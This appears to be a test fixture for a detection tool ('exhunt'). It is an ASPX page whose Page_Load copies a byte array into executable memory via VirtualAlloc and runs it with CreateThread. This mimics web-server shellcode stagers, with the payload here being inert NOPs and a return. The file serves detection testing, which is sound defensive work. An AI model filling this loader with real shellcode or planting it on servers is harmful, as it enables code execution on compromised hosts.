<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
/* written for exhunt's tests after the public descriptions of aspx
 * stagers: bytes in the page copied to executable memory and run on a
 * new thread (the bytes here are NOPs and a return: inert) */
[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr n, uint type, uint prot);
[DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr start, IntPtr p, uint f, out uint id);
void Page_Load(object s, EventArgs e)
{
	byte[] code = new byte[] { 0x90, 0x90, 0x90, 0x90, 0xc3 };
	IntPtr mem = VirtualAlloc(IntPtr.Zero, (UIntPtr)code.Length, 0x3000, 0x40);
	Marshal.Copy(code, 0, mem, code.Length);
	uint id;
	CreateThread(IntPtr.Zero, UIntPtr.Zero, mem, IntPtr.Zero, 0, out id);
}
</script>
